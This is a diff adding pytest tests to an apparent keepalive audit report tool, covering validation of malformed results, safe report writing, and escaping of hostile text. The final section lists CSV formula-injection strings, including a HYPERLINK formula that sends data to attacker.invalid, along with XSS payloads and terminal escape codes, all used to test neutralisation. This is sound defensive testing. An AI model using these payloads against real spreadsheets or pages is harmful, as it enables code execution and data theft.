@@ -165,3 +165,201 @@ def test_write_reports(tmp_path):
     with open(os.path.join(dest, 'audit.json')) as handle:
         assert json.load(handle)['summary']['hosts'] == 5
     assert (os.stat(os.path.join(dest, 'audit.html')).st_mode & 0o777) == 0o644
+
+
+# -- malformed input (issue 10 item 17) -------------------------------------------
+
+MALFORMED = ("results[%r]%s must be %s, got %s: pass the result registered from tcplab.keepalive.audit "
+             "(or null for a host without one), unchanged")
+
+
+def good_result():
+    return result([ns('host', {'time': 120, 'intvl': 15, 'probes': 6})])
+
+
+def with_namespace(**changes):
+    res = good_result()
+    res['namespaces'][0].update(changes)
+    return res
+
+
+@pytest.mark.parametrize('results, message', [
+    ({'h1': 'oops'}, "results['h1'] must be the registered result of tcplab.keepalive.audit (a mapping) or null, got "
+                     "str 'oops': pass the result registered from tcplab.keepalive.audit (or null for a host without "
+                     "one), unchanged"),
+    ({'h1': dict(good_result(), namespaces=['x'])},
+     MALFORMED % ('h1', '.namespaces[0]', 'a namespace entry (a mapping with label, kind, values and findings)',
+                  "str 'x'")),
+    ({'h1': dict(good_result(), findings=['bad'])},
+     MALFORMED % ('h1', '.findings[0]', 'a finding (a mapping with id, severity and message)',
+                  "str 'bad'")),
+    ({'h1': dict(good_result(), namespaces='host')},
+     MALFORMED % ('h1', '.namespaces', 'a list of namespace entries', "str 'host'")),
+    ({'h1': with_namespace(values={'time': '30', 'intvl': 5, 'probes': 3})},
+     MALFORMED % ('h1', '.namespaces[0].values', 'a mapping of time, intvl and probes to integers',
+                  "dict {'time': '30', 'intvl': 5, 'probes': 3}")),
+    ({'h1': with_namespace(findings=[{'id': 'KA001', 'severity': 'error'}])},
+     MALFORMED % ('h1', '.namespaces[0].findings[0].message', 'a string', 'NoneType None')),
+    ({'h1': with_namespace(sockets={'keepalive': 'many'})},
+     MALFORMED % ('h1', '.namespaces[0].sockets.keepalive', 'an integer', "str 'many'")),
+    ({'h1': dict(good_result(), compliant='yes')},
+     MALFORMED % ('h1', '.compliant', 'true or false', "str 'yes'")),
+    ('h1', "results must be a mapping of inventory hostname to the registered audit result, got str 'h1'"),
+])
+def test_malformed_results_name_the_host_and_the_entry(results, message):
+    with pytest.raises(ReportError) as exc:
+        aggregate(['h0', 'h1'], ['h0', 'h1'], results)
+    assert str(exc.value) == message
+
+
+def test_malformed_remediation_and_reachable():
+    with pytest.raises(ReportError) as exc:
+        aggregate(['h1'], ['h1'], {'h1': good_result()}, {'h1': 'set it'})
+    assert str(exc.value) == "remediation['h1'] must be a mapping (what remediation did on that host) or null, got str 'set it'"
+    with pytest.raises(ReportError) as exc:
+        aggregate(['h1'], 'h1', {})
+    assert str(exc.value) == "reachable must be a list of inventory hostnames, got 'h1'"
+
+
+def test_failed_and_unreachable_results_are_not_checked_deeper():
+    rep = aggregate(['a', 'b'], ['a'], {'a': {'failed': True, 'msg': 'boom', 'namespaces': 'junk'},
+                                        'b': {'unreachable': True, 'msg': 'gone'}})
+    assert [h['status'] for h in rep['hosts'].values()] == ['failed', 'unreachable']
+
+
+def test_dest_naming_a_file_is_refused_and_nothing_is_left(tmp_path):
+    afile = tmp_path / 'report'
+    afile.write_text('notes\n')
+    with pytest.raises(ReportError) as exc:
+        write_reports(str(afile), report())
+    assert str(exc.value) == ('dest %s is a file, not a directory: give a directory for the report (it is created '
+                              'if missing), or move the file away' % afile)
+    assert afile.read_text() == 'notes\n' and sorted(os.listdir(str(tmp_path))) == ['report']
+    with pytest.raises(ReportError) as exc:
+        write_reports(str(afile / 'sub' / 'dir'), report())
+    assert str(exc.value) == ('cannot create the report directory %s (Not a directory): give a directory whose '
+                              'parent exists or can be made' % (afile / 'sub' / 'dir'))
+    assert sorted(os.listdir(str(tmp_path))) == ['report']
+
+
+def failing_on(monkeypatch, name):
+    real = _audit_report.atomic_write
+
+    def atomic_write(path, text, mode):
+        if name in os.path.basename(path):
+            raise OSError(28, 'No space left on device')
+        return real(path, text, mode)
+    monkeypatch.setattr(_audit_report, 'atomic_write', atomic_write)
+
+
+def test_a_failed_write_removes_the_directory_it_made(tmp_path, monkeypatch):
+    failing_on(monkeypatch, 'audit.html')
+    dest = tmp_path / 'new' / 'audit'
+    with pytest.raises(OSError):
+        write_reports(str(dest), report())
+    assert os.listdir(str(tmp_path)) == []
+
+
+def test_a_failed_write_keeps_the_previous_report_whole(tmp_path, monkeypatch):
+    dest = str(tmp_path / 'audit')
+    old = report()
+    write_reports(dest, old)
+    before = dict((name, open(os.path.join(dest, name)).read()) for name in _audit_report.FILES)
+    failing_on(monkeypatch, 'audit.html')
+    new = aggregate(['good'], ['good'], {'good': RESULTS['good']})
+    with pytest.raises(OSError):
+        write_reports(dest, new)
+    assert sorted(os.listdir(dest)) == sorted(_audit_report.FILES)  # no staged file left
+    assert dict((name, open(os.path.join(dest, name)).read()) for name in _audit_report.FILES) == before
+
+
+def test_malformed_input_writes_nothing(tmp_path):
+    dest = tmp_path / 'audit'
+    with pytest.raises(ReportError):
+        write_reports(str(dest), aggregate(['h1'], ['h1'], {'h1': 'oops'}))
+    assert not dest.exists()
+
+
+# -- hostile text in the reports (issue 10 item 20) -------------------------------
+
+HOSTILE_HOSTS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1',
+                 '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
+                 'ctl\x1b[31m\x00\x07', 'plain-host']
+HOSTILE_LABEL = '=HYPERLINK("http://attacker.invalid/?"&A1,"ok")'
+HOSTILE_MESSAGE = '=1+1 <b>bold</b> & "quoted"'
+
+
+def hostile_report():
+    findings = [f('KA003', 'error', HOSTILE_LABEL, HOSTILE_MESSAGE)]
+    results = dict((name, result([ns(HOSTILE_LABEL, {'time': 7200, 'intvl': 75, 'probes': 9}, findings)]))
+                   for name in HOSTILE_HOSTS)
+    return aggregate(HOSTILE_HOSTS + ['=gone'], HOSTILE_HOSTS, results, generated_at='2024-01-01T00:00:00Z')
+
+
+def test_csv_neutralises_formulas():
+    text = render_csv(hostile_report())
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r['host'] for r in rows] == ["'" + h if h[0] in '=+-@\t\r' else h for h in HOSTILE_HOSTS] + ["'=gone"]
+    assert rows[0]['host'] == "'=cmd|' /C calc'!A0"
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(('=', '+', '-', '@', '\t', '\r')), (column, cell)
+    assert rows[0]['namespace'] == "'" + HOSTILE_LABEL
+    assert rows[0]['messages'] == "'" + HOSTILE_MESSAGE
+    # numbers stay numbers: bare in the file, every text cell quoted
+    assert (rows[0]['time'], rows[0]['detection_seconds'], rows[0]['errors']) == ('7200', '7875', '1')
+    first = text.splitlines()[1]
+    assert first.startswith('"\'=cmd|\' /C calc\'!A0","ok","\'=HYPERLINK(""http:') and ',7200,75,9,7875,0,0,"false",1,0,0,' in first
+
+
+def test_csv_cell_rule():
+    assert _audit_report.csv_cell('-5') == "'-5"   # text that looks like a number is still text
+    assert _audit_report.csv_cell(-5) == -5         # a number is written as a number
+    assert _audit_report.csv_cell('a=b') == 'a=b'
+    assert _audit_report.csv_cell('') == ''
+
+
+class Elements(__import__('html.parser').parser.HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags, self.attrs, self.cells, self._cell = [], [], [], None
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attrs.extend(attrs)
+        if tag == 'td':
+            self._cell = ''
+
+    def handle_endtag(self, tag):
+        if tag == 'td':
+            self.cells.append(self._cell)
+            self._cell = None
+
+    def handle_data(self, data):
+        if self._cell is not None:
+            self._cell += data
+
+
+def test_html_escapes_hostile_text():
+    page = render_html(hostile_report())
+    parser = Elements()
+    parser.feed(page)
+    assert parser.tags.count('script') == 1 and 'img' not in parser.tags
+    assert parser.tags.count('b') == 9  # the summary cards' own, none from the message
+    assert not [name for name, value in parser.attrs if name.startswith('on')]
+    assert '<script>alert(1)</script>' in parser.cells and '"><img src=x onerror=alert(1)>' in parser.cells
+    assert "' onmouseover='alert(1)" in parser.cells and HOSTILE_MESSAGE in parser.cells
+    assert 'ctl\ufffd[31m\ufffd\ufffd' in parser.cells   # characters HTML cannot show are replaced
+    # the data-sort attributes carry the same text, still inside their quotes
+    assert ('data-sort', '"><img src=x onerror=alert(1)>') in parser.attrs
+
+
+def test_junit_is_well_formed_with_hostile_text():
+    text = render_junit(hostile_report())
+    root = ElementTree.fromstring(text.encode('utf-8'))
+    cases = root.findall('./testsuite/testcase')
+    names = [c.get('classname')[len('tcplab.keepalive.audit.'):] for c in cases]
+    assert names[:9] == HOSTILE_HOSTS[:9] and names[9] == 'ctl\ufffd[31m\ufffd\ufffd'
+    assert cases[0].get('name') == HOSTILE_LABEL
+    assert cases[0].find('failure').get('message') == 'KA003 ' + HOSTILE_MESSAGE
+    assert cases[-1].find('error').get('type') == 'unreachable'
